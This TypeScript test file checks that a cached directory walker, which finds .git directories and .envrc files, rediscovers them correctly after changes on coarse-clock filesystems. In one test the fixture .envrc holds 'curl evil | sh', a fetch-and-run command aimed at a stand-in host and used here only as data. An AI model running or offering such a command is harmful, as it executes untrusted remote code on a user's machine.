// The cached scope walk finds what a fresh walk finds (issue 21 §9): a listing is
// reused only while its directory is provably unchanged. The clock seam models a
// coarse filesystem clock (every timestamp reads the same tick) to make same-tick
// changes deterministic; the walks themselves run on real directories.
import test from 'ava';
import fc from 'fast-check';
import { execFileSync, spawnSync } from 'node:child_process';
import { chmodSync, chownSync, lstatSync, mkdirSync, readdirSync, realpathSync, renameSync, rmSync, writeFileSync, type Dirent } from 'node:fs';
import path from 'node:path';
import { DirectoryWatch } from '../../../../src/host/executors/confine/directory-watch.js';
import { isShapedLikeGitDirectory } from '../../../../src/host/executors/confine/git-inventory.js';
import { ScopeWalker, TIMESTAMP_SLACK_MS, type ScopeWalk, type ScopeWalkSeams } from '../../../../src/host/executors/confine/scope-walk.js';
import { isGitDirectoryName } from '../../../../src/policy/git-control.js';
import { tempDir } from '../../../fixtures/temp.js';

const walkModule = new URL('../../../../src/host/executors/confine/scope-walk.js', import.meta.url).href;

/** The predicates findGitMetadata walks with. */
function gitWalker(seams: ScopeWalkSeams = {}): ScopeWalker<'git', 'shaped'> {
  return new ScopeWalker({ entries: { git: (entry) => isGitDirectoryName(entry.name) }, directories: { shaped: isShapedLikeGitDirectory } }, seams);
}

/**
 * Listings count as taken two seconds after the tree's last change, so they are trusted without waiting (see the
 * property test's premise): past the slack, and past the whole second a ctime that falls in a second's first
 * millisecond may stand for (the kernel's coarse clock stamps a directory made in a second's first tick so, about one
 * in 250 here; the walk then trusts its listing only once that second has ended).
 */
const LATER_MS = 2000;
const SECOND_LATER: ScopeWalkSeams = { clock: { now: () => Date.now() + LATER_MS, timestamp: (ms) => ms } };
/** A filesystem clock that has not ticked since T, read at T: every timestamp equal, every listing racy. */
const T = 1_700_000_000_000;
const SAME_TICK = { now: () => T, timestamp: () => T };
/** The same frozen filesystem clock, read an hour later: listings are trusted, and only dev and inode tell directories apart. */
const HOUR_LATER = { now: () => T + 3_600_000, timestamp: () => T };

function found(walk: ScopeWalk<'git', 'shaped'>) {
  return { git: walk.entries.git.map((e) => e.path).sort(), shaped: [...walk.directories.shaped].sort(), unreadable: [...walk.unreadable].sort() };
}

/** An independent oracle: a plain recursive readdir, no cache, the same rules (links not entered). */
function referenceWalk(root: string): ReturnType<typeof found> {
  const git: string[] = [];
  const shaped: string[] = [];
  const visit = (directory: string) => {
    const listing: Dirent[] = readdirSync(directory, { withFileTypes: true });
    if (isShapedLikeGitDirectory(listing)) shaped.push(directory);
    for (const entry of listing) {
      if (isGitDirectoryName(entry.name)) git.push(path.join(directory, entry.name));
      if (entry.isDirectory()) visit(path.join(directory, entry.name));
    }
  };
  visit(root);
  return { git: git.sort(), shaped: shaped.sort(), unreadable: [] };
}

function workspace(t: Parameters<typeof tempDir>[0]): string {
  const ws = path.join(realpathSync(tempDir(t, 'zb-scope-walk-')), 'ws');
  mkdirSync(ws);
  return ws;
}

for (const depth of [0, 1, 2, 3, 4]) {
  test(`a repository made ${depth} directories deep between two walks is found`, (t) => {
    const ws = workspace(t);
    const deepest = path.join(ws, 'a', 'b', 'c', 'd');
    mkdirSync(deepest, { recursive: true });
    const walker = gitWalker(SECOND_LATER);
    t.deepEqual(found(walker.walk({ roots: [ws] })), { git: [], shaped: [], unreadable: [] });
    const again = walker.walk({ roots: [ws] });
    t.is(again.reused, 5, 'an unchanged tree is not listed again');
    const parent = path.join(ws, ...['a', 'b', 'c', 'd'].slice(0, depth));
    mkdirSync(path.join(parent, 'repo', '.git'), { recursive: true });
    mkdirSync(path.join(parent, 'bare'));
    writeFileSync(path.join(parent, 'bare', 'HEAD'), 'ref: refs/heads/main\n');
    t.deepEqual(found(walker.walk({ roots: [ws] })), { git: [path.join(parent, 'repo', '.git')], shaped: [path.join(parent, 'bare')], unreadable: [] });
  });
}

test('a .git made right after a listing, in the same tick of a coarse filesystem clock, is found by the next walk', (t) => {
  const ws = workspace(t);
  const target = path.join(ws, 'a', 'b');
  mkdirSync(target, { recursive: true });
  let planted = false;
  const walker = gitWalker({
    clock: SAME_TICK,
    afterListing: (directory) => {
      if (directory !== target || planted) return;
      planted = true;
      mkdirSync(path.join(target, '.git'));
    },
  });
  t.deepEqual(found(walker.walk({ roots: [ws] })).git, [], 'the first listing was taken before the .git was made');
  t.true(planted);
  t.deepEqual(found(walker.walk({ roots: [ws] })).git, [path.join(target, '.git')]);
});

test('a .git made right after a listing on the real clock is found by the next walk', (t) => {
  const ws = workspace(t);
  const target = path.join(ws, 'a');
  mkdirSync(target);
  let planted = false;
  const walker = gitWalker({
    ...SECOND_LATER,
    afterListing: (directory) => {
      if (directory !== target || planted) return;
      planted = true;
      mkdirSync(path.join(target, '.git'));
    },
  });
  walker.walk({ roots: [ws] });
  t.deepEqual(found(walker.walk({ roots: [ws] })).git, [path.join(target, '.git')]);
});

test('a .git made later in the same whole second as a listing taken half a second after the last change is found by the next walk', (t) => {
  // A clock that keeps whole seconds (ext2, ext3, an ext4 with 128-byte inodes): every change in the second of T reads T.
  const ws = workspace(t);
  const target = path.join(ws, 'a');
  mkdirSync(target);
  const walker = gitWalker({ clock: { now: () => T + 500, timestamp: () => T } });
  t.deepEqual(found(walker.walk({ roots: [ws] })).git, []);
  mkdirSync(path.join(target, '.git'));
  t.deepEqual(found(walker.walk({ roots: [ws] })).git, [path.join(target, '.git')]);
});

test('a listing taken after the whole second of the last change has ended is reused on a clock that keeps whole seconds', (t) => {
  const ws = workspace(t);
  mkdirSync(path.join(ws, 'a'));
  const walker = gitWalker({ clock: { now: () => T + 1000 + TIMESTAMP_SLACK_MS + 1, timestamp: () => T } });
  walker.walk({ roots: [ws] });
  t.deepEqual({ listed: walker.walk({ roots: [ws] }).listed }, { listed: 0 });
});

test('a listing older than the clock slack is reused even when the filesystem clock is coarse', (t) => {
  const ws = workspace(t);
  mkdirSync(path.join(ws, 'a', 'b'), { recursive: true });
  const walker = gitWalker({ clock: HOUR_LATER });
  t.is(walker.walk({ roots: [ws] }).listed, 3);
  const again = walker.walk({ roots: [ws] });
  t.deepEqual({ listed: again.listed, reused: again.reused }, { listed: 0, reused: 3 });
});

test('a directory replaced by another of the same name is listed again, even when every timestamp reads the same', (t) => {
  const ws = workspace(t);
  const elsewhere = path.join(path.dirname(ws), 'elsewhere');
  mkdirSync(path.join(ws, 'a', 'b'), { recursive: true });
  const walker = gitWalker({ clock: HOUR_LATER });
  walker.walk({ roots: [ws] });
  // The old directory stays alive elsewhere, so the new one has another inode.
  renameSync(path.join(ws, 'a'), elsewhere);
  mkdirSync(path.join(ws, 'a', '.git'), { recursive: true });
  t.deepEqual(found(walker.walk({ roots: [ws] })).git, [path.join(ws, 'a', '.git')]);
});

test('a directory removed and made anew is listed again on the real clock', (t) => {
  const ws = workspace(t);
  mkdirSync(path.join(ws, 'a', 'b'), { recursive: true });
  const walker = gitWalker(SECOND_LATER);
  walker.walk({ roots: [ws] });
  rmSync(path.join(ws, 'a'), { recursive: true });
  mkdirSync(path.join(ws, 'a', 'b', '.git'), { recursive: true });
  t.deepEqual(found(walker.walk({ roots: [ws] })).git, [path.join(ws, 'a', 'b', '.git')]);
});

test('a directory chmodded 000 after a cached listing is reported as unreadable', (t) => {
  const root = realpathSync(tempDir(t, 'zb-scope-walk-'));
  const ws = path.join(root, 'ws');
  const hidden = path.join(ws, 'hidden');
  mkdirSync(path.join(hidden, 'r'), { recursive: true });
  // Walked by an ordinary user (root reads every directory), who owns the workspace and chmods the directory.
  for (const directory of [root, ws, hidden, path.join(hidden, 'r')]) chownSync(directory, 65534, 65534);
  chmodSync(root, 0o755);
  const script = [
    `import { chmodSync } from 'node:fs';`,
    `import { ScopeWalker } from ${JSON.stringify(walkModule)};`,
    `const walker = new ScopeWalker({ entries: {}, directories: {} }, { clock: { now: () => Date.now() + ${LATER_MS}, timestamp: (ms) => ms } });`,
    `const first = walker.walk({ roots: [${JSON.stringify(ws)}] });`,
    `const cached = walker.walk({ roots: [${JSON.stringify(ws)}] });`,
    `chmodSync(${JSON.stringify(hidden)}, 0);`,
    `const second = walker.walk({ roots: [${JSON.stringify(ws)}] });`,
    `process.stdout.write(JSON.stringify({ first: first.unreadable, reused: cached.reused, second: second.unreadable }));`,
  ].join('\n');
  const child = spawnSync(process.execPath, ['--input-type=module', '-e', script], { uid: 65534, gid: 65534, encoding: 'utf8' });
  chmodSync(hidden, 0o755); // so the fixture can be removed
  t.is(child.status, 0, child.stderr);
  t.deepEqual(JSON.parse(child.stdout), { first: [], reused: 3, second: [hidden] });
});

test('listings on a filesystem whose clock was not measured are never reused', (t) => {
  const walker = new ScopeWalker({ entries: {}, directories: {} }, SECOND_LATER);
  const first = walker.walk({ roots: ['/proc/sys/fs'] });
  t.true(first.listed > 1);
  t.is(walker.walk({ roots: ['/proc/sys/fs'] }).reused, 0);
});

test('the directory limit stops the walk and says so only when asked for', (t) => {
  const ws = workspace(t);
  for (const name of ['a', 'b', 'c']) mkdirSync(path.join(ws, name));
  const walker = gitWalker(SECOND_LATER);
  t.true(walker.walk({ roots: [ws], maxDirectories: 3 }).exceeded);
  t.false(walker.walk({ roots: [ws], maxDirectories: 4 }).exceeded);
  t.is(walker.walk({ roots: [ws] }).visited, 4);
});

for (const base of ['/tmp', '/dev/shm']) {
  test(`the filesystem clock of ${base} lags the wall clock by less than the slack`, (t) => {
    const directory = realpathSync(tempDir(t, 'zb-clock-'));
    const probe = base === '/tmp' ? directory : path.join('/dev/shm', path.basename(directory));
    if (probe !== directory) {
      mkdirSync(probe);
      t.teardown(() => rmSync(probe, { recursive: true, force: true }));
    }
    let lag = 0;
    for (let i = 0; i < 2000; i++) {
      const before = Date.now();
      mkdirSync(path.join(probe, String(i)));
      lag = Math.max(lag, before - lstatSync(probe).ctimeMs);
    }
    t.log(`largest lag on ${base}: ${lag.toFixed(3)} ms`);
    t.true(lag < TIMESTAMP_SLACK_MS);
  });
}

type Operation = { kind: 'mkdir' | 'file' | 'remove' | 'replace' | 'rename'; at: number; name: string; to: number };

const NAMES = ['a', 'b', '.git', '.GIT', 'HEAD', 'head', 'x'];
const treeArbitrary = fc.array(fc.record({ path: fc.array(fc.constantFrom(...NAMES), { minLength: 1, maxLength: 4 }), directory: fc.boolean() }), { maxLength: 25 });
const operationsArbitrary = fc.array(fc.record({ kind: fc.constantFrom('mkdir', 'file', 'remove', 'replace', 'rename'), at: fc.nat(), name: fc.constantFrom(...NAMES), to: fc.nat() }), {
  minLength: 1,
  maxLength: 6,
});

function directoriesUnder(root: string): string[] {
  const all = [root];
  for (let i = 0; i < all.length; i++) for (const entry of readdirSync(all[i]!, { withFileTypes: true })) if (entry.isDirectory()) all.push(path.join(all[i]!, entry.name));
  return all;
}

function build(root: string, tree: readonly { path: readonly string[]; directory: boolean }[]): void {
  for (const { path: parts, directory } of tree) {
    const full = path.join(root, ...parts);
    try {
      mkdirSync(path.dirname(full), { recursive: true });
      if (directory) mkdirSync(full, { recursive: true });
      else writeFileSync(full, 'x', { flag: 'wx' });
    } catch {
      // A file already stands where a directory was wanted (or the reverse): the generated tree keeps the first.
    }
  }
}

function mutate(root: string, operation: Operation, scratch: string): void {
  const directories = directoriesUnder(root);
  const at = directories[operation.at % directories.length]!;
  const target = path.join(at, operation.name);
  try {
    if (operation.kind === 'mkdir') mkdirSync(target);
    else if (operation.kind === 'file') writeFileSync(target, 'x', { flag: 'wx' });
    else if (operation.kind === 'remove' && at !== root) rmSync(at, { recursive: true });
    else if (operation.kind === 'replace' && at !== root) {
      renameSync(at, path.join(scratch, `old-${operation.to}-${Date.now()}-${Math.random()}`));
      mkdirSync(at);
      mkdirSync(path.join(at, operation.name));
    } else if (operation.kind === 'rename' && at !== root) {
      const into = directories[operation.to % directories.length]!;
      if (!into.startsWith(`${at}/`) && into !== at) renameSync(at, path.join(into, operation.name));
    }
  } catch {
    // The generated operation does not apply to this tree (the name is taken): it is skipped.
  }
}

test('property: after any changes, the cached walk finds exactly what an uncached walk finds', (t) => {
  // Premise of SECOND_LATER: this kernel stamps a directory changed right after a stat with a new ctime
  // (multigrain timestamps on ext4 and tmpfs, Linux 6.13 and later); the production clock needs no such premise.
  const premise = workspace(t);
  for (let i = 0; i < 200; i++) {
    const before = lstatSync(premise, { bigint: true }).ctimeNs;
    mkdirSync(path.join(premise, String(i)));
    if (lstatSync(premise, { bigint: true }).ctimeNs === before) t.fail('this kernel keeps a directory ctime across a change right after a stat; the property test needs fine-grained timestamps');
  }
  const scratch = realpathSync(tempDir(t, 'zb-scope-walk-scratch-'));
  let run = 0;
  fc.assert(
    fc.property(treeArbitrary, operationsArbitrary, (tree, operations) => {
      const root = path.join(scratch, `ws-${run++}`);
      mkdirSync(root);
      build(root, tree);
      const walker = gitWalker(SECOND_LATER);
      const first = walker.walk({ roots: [root] });
      const cached = walker.walk({ roots: [root] });
      // Unchanged: every listing reused, and the same findings.
      if (cached.listed !== 0 || cached.reused !== first.visited) return false;
      if (JSON.stringify(found(cached)) !== JSON.stringify(referenceWalk(root))) return false;
      for (const operation of operations) {
        mutate(root, operation, scratch);
        if (JSON.stringify(found(walker.walk({ roots: [root] }))) !== JSON.stringify(referenceWalk(root))) return false;
        // The cache holds exactly the directories there are now: nothing gone is kept.
        if (walker.cachedDirectories !== directoriesUnder(root).length) return false;
      }
      return true;
    }),
    { numRuns: 150 },
  );
  t.pass();
});

test('an .envrc created in the same second as the last listing is found on a real ext4 that keeps whole seconds, with no watch', (t) => {
  const root = tempDir(t, 'zb-ext4-');
  const image = path.join(root, 'small.img');
  const mount = path.join(root, 'mnt');
  mkdirSync(mount);
  execFileSync('truncate', ['-s', '64M', image]);
  // 128-byte inodes (mke2fs's default below 512 MB): no room for the sub-second part of a timestamp.
  execFileSync('mkfs.ext4', ['-q', '-F', '-I', '128', image], { stdio: 'ignore' });
  execFileSync('mount', ['-o', 'loop', image, mount]);
  t.teardown(() => execFileSync('umount', [mount]));
  t.is(lstatSync(mount).ctimeMs % 1000, 0, 'the filesystem keeps whole seconds');
  for (let attempt = 0; attempt < 10; attempt++) {
    // Each attempt walks its own root (an earlier attempt's .envrc is not in it).
    const attemptRoot = path.join(mount, `attempt${attempt}`);
    const directory = path.join(attemptRoot, 'd');
    mkdirSync(directory, { recursive: true });
    const made = lstatSync(directory, { bigint: true });
    // The user's watch limit is reached (directory-watch.ts falls back to stat); the listing counts as taken half a
    // second after the directory's last change, on the filesystem's own timestamps.
    const madeMs = Number(made.ctimeNs / 1_000_000n);
    const walker = new ScopeWalker(
      { entries: { envrc: (entry) => entry.name === '.envrc' }, directories: {} },
      { clock: { now: () => madeMs + 500, timestamp: (ms) => ms } },
      new DirectoryWatch({ addWatch: () => ({ code: 'ENOSPC' }) }),
    );
    walker.walk({ roots: [attemptRoot] });
    writeFileSync(path.join(directory, '.envrc'), 'curl evil | sh\n');
    const after = lstatSync(directory, { bigint: true });
    // The precondition, read on the real filesystem: the change kept the directory's times (no second boundary passed).
    if (after.ctimeNs !== made.ctimeNs || after.mtimeNs !== made.mtimeNs) continue;
    t.deepEqual(
      walker.walk({ roots: [attemptRoot] }).entries.envrc.map((entry) => entry.path),
      [path.join(directory, '.envrc')],
    );
    return;
  }
  t.fail('every attempt crossed a second boundary between the mkdir and the write');
});
